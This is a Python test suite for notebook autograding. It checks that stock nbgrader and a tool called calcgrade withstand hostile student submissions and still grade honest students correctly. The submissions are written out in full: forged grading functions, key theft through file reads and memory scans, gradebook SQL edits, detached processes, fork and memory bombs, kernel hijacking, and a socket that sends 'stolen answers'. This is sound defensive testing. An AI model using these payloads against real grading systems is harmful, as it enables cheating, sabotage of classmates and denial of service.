"""Tamper suite: hostile students against both ways of grading.

Each attacker submits the blank 02_derivatives notebook (it deserves 0 of 23) with an attack in an extra cell
after the setup cell.  The attacks cover every class of the issue: forging full marks (a fake or wrapped
``check``, patched grading functions, a replaced ``float``, a cleared ``NBGRADER_EXECUTION``, display
formatters, input/AST transformers and cell hooks, reading the private key or running the solutions, copying a
classmate's notebook, editing the gradebook, a forged key named by an environment variable) and harming
classmates (zeroing their scores, a detached process that strikes after grading, blanking their notebooks,
rewriting the keys, hijacking another kernel, an atexit hook, a duplicated test cell), plus a memory bomb, a
fork bomb, a network call and a scan of the process's memory for key entries.  The attackers know the
course's absolute path, as a student on the same machine would.

The class (honest students graded before and after the attackers) is graded once by stock
``nbgrader autograde`` with the course's nbgrader_config.py and once by ``calcgrade autograde``.  Each way:
every attacker gets 0 (the duplicated cell fails alone), the honest students keep their scores, no file of
the course (keys, solutions, releases, other submissions) changes, nothing connects to the network, and no
process started by a submission outlives grading.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import pytest

from grader.course import coursedir
from grader.course import gradebook
from grader.course.demo import run as demo
from grader.course.demo import sampleclass

ROOT = Path(__file__).resolve().parent.parent
ASSIGNMENT = "02_derivatives"
NOTEBOOK = "derivatives.ipynb"
MARK = "calcgrade-tamper-" + "probe"          # in the command line of every process an attack leaves behind
HONEST = {"aaa_honest": "perfect", "mmm_honest": "partial", "zzz_honest": "perfect"}

pytestmark = pytest.mark.slow

TAMPER_CONFIG = """
# tamper suite: short limits so the bombs and loops end quickly
c.SandboxedExecute.cell_timeout = 5
c.SandboxedExecute.notebook_timeout = 60
c.SandboxedExecute.memory_bytes = 1 << 30
c.SandboxedExecute.processes = 64
"""

# --- the attacks -----------------------------------------------------------------------------------------------
# {root}: the course folder; {qvars}: qid -> answer variable; {port}: a TCP listener of the test;
# {victim}: the connection file of a kernel the test runs (another student's kernel on the same machine)
HELPERS = """
import json, os, sys, glob
ROOT = {root!r}
QVARS = {qvars!r}
def _set_answers(values):
    for qid, var in QVARS.items():
        if qid in values:
            globals()[var] = values[qid]
def _run_cells(path):
    nb = json.load(open(path))
    for cell in nb["cells"]:
        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        meta = cell.get("metadata", {{}}).get("nbgrader", {{}})
        if cell["cell_type"] == "code" and not meta.get("grade"):
            try:
                exec(src, globals())
            except Exception:
                pass
"""

ATTACKS: dict[str, str] = {
    "fake_check": """
def check(*args, **kwargs):
    return None
""",
    "wrapped_check": """
_real_check = check
def check(qid, value=None, *args, **kwargs):
    _real_check(qid, value)
    return 23.0
""",
    "patched_grading": """
import grader.key.grading as _g, grader.key as _k, grader.notebook.check as _c
from grader.core.verdict import Verdict
_ok = lambda *a, **k: Verdict(True, 1.0, "Correct.", None, "exact", {})
_g.grade = _ok
_k.grade = _ok
_c._check = lambda qid, value: __import__("grader.notebook.display", fromlist=["x"]).CheckResult(qid, "correct", 5.0, 5.0, "ok")
_c._to_wire_answer = lambda value, entry: 1
try:
    import grader.notebook.capture as _cap
    for _name in dir(_cap):
        if callable(getattr(_cap, _name)) and not _name.startswith("__"):
            setattr(_cap, _name, lambda *a, **k: 23.0)
except Exception:
    pass
""",
    "replaced_float": """
import builtins
builtins.float = lambda *a, **k: 23.0
""",
    "cleared_environment": """
os.environ.pop("NBGRADER_EXECUTION", None)
os.environ["NBGRADER_EXECUTION"] = ""
for _k in list(os.environ):
    if "CALCGRADE" in _k:
        del os.environ[_k]
""",
    "display_formatter": """
_ip = get_ipython()
for _fmt in ("text/plain", "text/html"):
    _ip.display_formatter.formatters[_fmt].for_type(float, lambda o, p=None, c=None: (p.text("23.0") if p else "23.0"))
_ip.display_pub.publish = (lambda _orig: lambda data, *a, **k: _orig({"text/plain": "23.0"}, *a, **k))(_ip.display_pub.publish)
""",
    "ast_transformer": """
import ast
class _NoCheck(ast.NodeTransformer):
    def visit_Call(self, node):
        if getattr(node.func, "id", "") == "check":
            return ast.copy_location(ast.Constant(23.0), node)
        return self.generic_visit(node)
get_ipython().ast_transformers.insert(0, _NoCheck())
""",
    "cell_hooks": """
_ip = get_ipython()
_ip.input_transformers_post.append(lambda lines: [l.replace("check(", "(lambda *a, **k: 23.0)(") for l in lines])
_ip.events.register("pre_run_cell", lambda *a: globals().__setitem__("check", lambda *a, **k: 23.0))
_ip.events.register("post_run_cell", lambda *a: print("23.0"))
""",
    "read_private_key": """
from grader.key.wire import from_wire
_found = {}
for _path in [os.path.join(ROOT, ".calcgrade", "keys", "02_derivatives.json")] + glob.glob("../../../.calcgrade/keys/*.json") + glob.glob("/**/.calcgrade/keys/02_derivatives.json", recursive=False):
    try:
        _key = json.load(open(_path))
        _found = {q: from_wire(e["reference"]) for q, e in _key["questions"].items() if e.get("kind") != "function"}
        break
    except Exception:
        pass
_set_answers(_found)
import inspect
""",
    "memory_scan": """
import gc
from grader.key.wire import from_wire
_refs = {}
for _o in gc.get_objects():      # any key entry the grader left in this process (walking check's frames finds less)
    if isinstance(_o, dict) and "reference" in _o and isinstance(_o.get("qid"), str):
        try:
            _refs[_o["qid"]] = from_wire(_o["reference"])
        except Exception:
            pass
try:                              # the way check() finds its key
    from grader.key import files as _files
    _key = _files.find_key_for_check(__import__("pathlib").Path.cwd())[0] or {}
    for _q, _e in _key.get("questions", {}).items():
        if "reference" in _e:
            _refs[_q] = from_wire(_e["reference"])
except Exception:
    pass
_set_answers(_refs)
""",
    "run_solutions": """
for _path in glob.glob(os.path.join(ROOT, "solutions", "02_derivatives", "*.ipynb")) + glob.glob("../../../solutions/02_derivatives/*.ipynb"):
    _run_cells(_path)
""",
    "copy_classmate": """
for _path in glob.glob(os.path.join(ROOT, "submitted", "aaa_honest", "02_derivatives", "*.ipynb")) + glob.glob(os.path.join(ROOT, "autograded", "aaa_honest", "02_derivatives", "*.ipynb")) + glob.glob("../../aaa_honest/02_derivatives/*.ipynb"):
    _run_cells(_path)
""",
    "gradebook_self": """
import sqlite3
for _db in [os.path.join(ROOT, "gradebook.db")] + glob.glob("../../../gradebook.db"):
    try:
        _con = sqlite3.connect(_db, timeout=1)
        _con.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)")
        _con.commit()
    except Exception:
        pass
""",
    "gradebook_others": """
import sqlite3
for _db in [os.path.join(ROOT, "gradebook.db")] + glob.glob("../../../gradebook.db"):
    try:
        _con = sqlite3.connect(_db, timeout=1)
        _con.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        _con.commit()
    except Exception:
        pass
""",
    "forged_key_env": """
_forged = "/tmp/forged_key.json"
try:
    json.dump({"format": "calcgrade-private-key/1", "questions": {}}, open(_forged, "w"))
except Exception:
    pass
os.environ["CALCGRADE_PRIVATE_KEY"] = _forged
os.environ["CALCGRADE_KEY"] = _forged
""",
    "detached_process": """
import subprocess
_code = '''
import os, sys, time, glob, sqlite3
time.sleep(4)
for db in glob.glob(%r + "/gradebook.db"):
    try:
        con = sqlite3.connect(db, timeout=5)
        con.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        con.commit()
    except Exception:
        pass
open(%r + "/DETACHED_WAS_HERE", "w").write("x")
time.sleep(60)
''' % (ROOT, ROOT)
subprocess.Popen([sys.executable, "-c", _code, {mark!r}], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:           # the classic double fork
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)", {mark!r}])
    os._exit(0)
""",
    "blank_classmates": """
_blank = json.load(open(glob.glob(os.path.join(ROOT, "exercises", "02_derivatives", "*.ipynb"))[0])) if glob.glob(os.path.join(ROOT, "exercises", "02_derivatives", "*.ipynb")) else {}
for _path in glob.glob(os.path.join(ROOT, "submitted", "*", "02_derivatives", "*.ipynb")) + glob.glob("../../*/02_derivatives/*.ipynb"):
    try:
        json.dump(_blank, open(_path, "w"))
    except Exception:
        pass
""",
    "rewrite_keys": """
for _path in glob.glob(os.path.join(ROOT, ".calcgrade", "keys", "*.json")) + glob.glob(os.path.join(ROOT, "*", "*", "calcgrade_public.json")) + glob.glob("calcgrade_public.json"):
    try:
        open(_path, "w").write("{}")
    except Exception:
        pass
""",
    "hijack_kernel": """
try:
    from jupyter_client import BlockingKernelClient
    for _cf in [{victim!r}] + glob.glob(os.path.join(os.path.dirname({victim!r}), "kernel-*.json")):
        try:
            _kc = BlockingKernelClient(connection_file=_cf)
            _kc.load_connection_file()
            _kc.start_channels()
            _kc.execute("open(%r, 'w').write('x')" % os.path.join(ROOT, "HIJACKED"))
            _kc.stop_channels()
        except Exception:
            pass
except Exception:
    pass
""",
    "atexit_hook": """
import atexit
def _spoil():
    for _path in glob.glob(os.path.join(ROOT, "autograded", "*", "02_derivatives", "*.ipynb")) + glob.glob("../../*/02_derivatives/*.ipynb"):
        try:
            os.chmod(_path, 0o644)
            open(_path, "w").write("TAMP" + "ERED")
        except Exception:
            pass
atexit.register(_spoil)
""",
    "memory_bomb": """
_hog = []
for _ in range(60):          # 3 GiB, written so the pages are really used
    _hog.append(b"\\x01" * (50 << 20))
""",
    "fork_bomb": """
_children = 0
for _ in range(300):
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)", {mark!r}])
    _children += 1
""",
    "network": """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen answers")
except Exception:
    pass
""",
}
DUPLICATED = "duplicated_test_cell"


def _attack_notebook(release: nbformat.NotebookNode, code: str) -> nbformat.NotebookNode:
    nb = nbformat.from_dict(json.loads(json.dumps(release)))
    setup = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells.insert(setup + 1, nbformat.v4.new_code_cell(code))
    return nb


def _tree(root: Path) -> dict[str, str]:
    """Hash of every file of the course that grading must not change."""
    out = {}
    skip = {"autograded", "feedback", "__pycache__", ".ipynb_checkpoints"}
    for path in root.rglob("*"):
        rel = path.relative_to(root)
        if path.is_file() and not (set(rel.parts) & skip) and not rel.name.startswith("gradebook.db"):
            out[str(rel)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _probes() -> list[str]:
    found = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                cmd = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if MARK in cmd:
                found.append(f"{proc.name}: {cmd[:120]}")
    return found


class _Listener:
    """A TCP server on 127.0.0.1 that records whoever connects (nobody should)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join(timeout=5)
        self.sock.close()


@pytest.fixture(scope="module")
def listener():
    server = _Listener()
    try:
        yield server
    finally:
        server.close()


@pytest.fixture(scope="module")
def victim(tmp_path_factory):
    """A running kernel of "another student": its connection file is where an attacker on this machine looks."""
    from jupyter_client import KernelManager

    folder = tmp_path_factory.mktemp("runtime")
    km = KernelManager(kernel_name="python3", connection_file=str(folder / "kernel-victim.json"))
    km.start_kernel(stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        yield km
    finally:
        km.shutdown_kernel(now=True)


@pytest.fixture(scope="module")
def released(tmp_path_factory, make_released_course):
    base = make_released_course(tmp_path_factory.mktemp("tamper") / "base", ASSIGNMENT)
    with open(base / "nbgrader_config.py", "a", encoding="utf-8") as fh:
        fh.write(TAMPER_CONFIG)
    return base


def _make_class(released: Path, target: Path, port: int, victim: str) -> dict[str, float]:
    """Copy the released course to ``target`` and place the class; -> student: expected points."""
    shutil.copytree(released, target)
    solution = nbformat.read(str(target / "solutions" / ASSIGNMENT / NOTEBOOK), as_version=4)
    release = nbformat.read(str(target / "exercises" / ASSIGNMENT / NOTEBOOK), as_version=4)
    qvars = {q.qid: q.variable for q in sampleclass.questions_of(solution)}
    subs = {s.student: s for s in sampleclass.sample_class(target) if s.assignment == ASSIGNMENT}
    expected: dict[str, float] = {}
    for student, profile in HONEST.items():
        folder = target / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        (folder / NOTEBOOK).write_text(subs[profile].content, encoding="utf-8")
        (folder / "timestamp.txt").write_text(demo.DEMO_TIMESTAMP)
        expected[student] = sum(subs[profile].expected.values())
    helpers = HELPERS.format(root=str(target), qvars=qvars)
    for name, attack in ATTACKS.items():
        code = helpers + textwrap.dedent(attack).replace("{mark!r}", repr(MARK)).replace("{port}", str(port)) \
            .replace("{victim!r}", repr(victim))
        nb = _attack_notebook(release, code)
        folder = target / "submitted" / name / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(nb, str(folder / NOTEBOOK))
        (folder / "timestamp.txt").write_text(demo.DEMO_TIMESTAMP)
        expected[name] = 0.0
    nb = nbformat.from_dict(json.loads(json.dumps(release)))
    test_cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade"))
    nb.cells.append(nbformat.from_dict(json.loads(json.dumps(test_cell))))
    folder = target / "submitted" / DUPLICATED / ASSIGNMENT
    folder.mkdir(parents=True)
    nbformat.write(nb, str(folder / NOTEBOOK))
    expected[DUPLICATED] = 0.0
    return expected


def _check_class(root: Path, expected: dict[str, float], before: dict[str, str], listener: _Listener) -> None:
    time.sleep(1)  # a detached process would have struck by now (it waits 4 s; later students took longer)
    scores = gradebook.all_scores(root)
    got = {student: sum(scores.get((ASSIGNMENT, student, "derivatives"), {}).values()) for student in expected}
    wrong = {s: (got[s], expected[s]) for s in expected if abs(got[s] - expected[s]) > 1e-9}
    assert not wrong, f"student: (graded, deserved) {wrong}"
    assert all(got[s] > 0 for s in HONEST)
    after = _tree(root)
    changed = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
    assert not changed, f"files changed by grading: {changed}"
    assert not (root / "DETACHED_WAS_HERE").exists() and not (root / "HIJACKED").exists()
    for student in HONEST:
        text = (root / "autograded" / student / ASSIGNMENT / NOTEBOOK).read_text(encoding="utf-8")
        assert "TAMP" + "ERED" not in text and text.count('"trusted": true') >= len(sampleclass.questions_of(
            nbformat.read(str(root / "solutions" / ASSIGNMENT / NOTEBOOK), as_version=4)))
    assert not _probes(), f"processes of a submission outlived grading: {_probes()}"
    assert listener.connections == 0, "a submission reached the network"


@pytest.fixture(scope="module")
def graded(released, tmp_path_factory, listener, victim):
    """The same class graded both ways, at the same time (each in its own copy of the course)."""
    bin_dir = Path(sys.executable).parent
    commands = {"nbgrader": [str(bin_dir / "nbgrader"), "autograde", ASSIGNMENT, "--force"],
                "calcgrade": [str(bin_dir / "calcgrade"), "autograde", ASSIGNMENT, "--json"]}
    runs = {}
    for way, cmd in commands.items():
        root = tmp_path_factory.mktemp(way) / "course"
        expected = _make_class(released, root, listener.port, victim.connection_file)
        runs[way] = {"root": root, "expected": expected, "before": _tree(root),
                     "proc": subprocess.Popen(cmd, cwd=str(root), env=coursedir.script_environment(),
                                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)}
    try:
        for run in runs.values():
            run["stdout"], run["stderr"] = run["proc"].communicate(timeout=900)
    finally:
        for run in runs.values():
            if run["proc"].poll() is None:
                run["proc"].kill()
                run["proc"].wait()
    return runs


def test_stock_nbgrader_autograde_is_safe(graded, listener, victim):
    run = graded["nbgrader"]
    root, expected = run["root"], run["expected"]
    log = run["stdout"] + run["stderr"]
    assert f"for student '{DUPLICATED}'" in log and "appears 2 times" in log, log[-3000:]
    done = {p.parent.parent.name for p in (root / "autograded").glob(f"*/{ASSIGNMENT}/{NOTEBOOK}")}
    assert done == set(expected) - {DUPLICATED}, log[-3000:]
    _check_class(root, expected, run["before"], listener)
    assert victim.is_alive()


def test_calcgrade_autograde_is_safe(graded, listener, victim):
    run = graded["calcgrade"]
    root, expected = run["root"], run["expected"]
    assert run["proc"].returncode == 1, run["stdout"][-2000:] + run["stderr"][-2000:]  # the duplicated cell failed
    data = json.loads(run["stdout"])
    assert data["sandboxed"] is True
    by = {s["student"]: s for s in data["students"]}
    assert set(by) == set(expected)
    assert [s for s in by if not by[s]["success"]] == [DUPLICATED]
    assert "appears 2 times" in by[DUPLICATED]["error"]
    _check_class(root, expected, run["before"], listener)
    assert victim.is_alive()
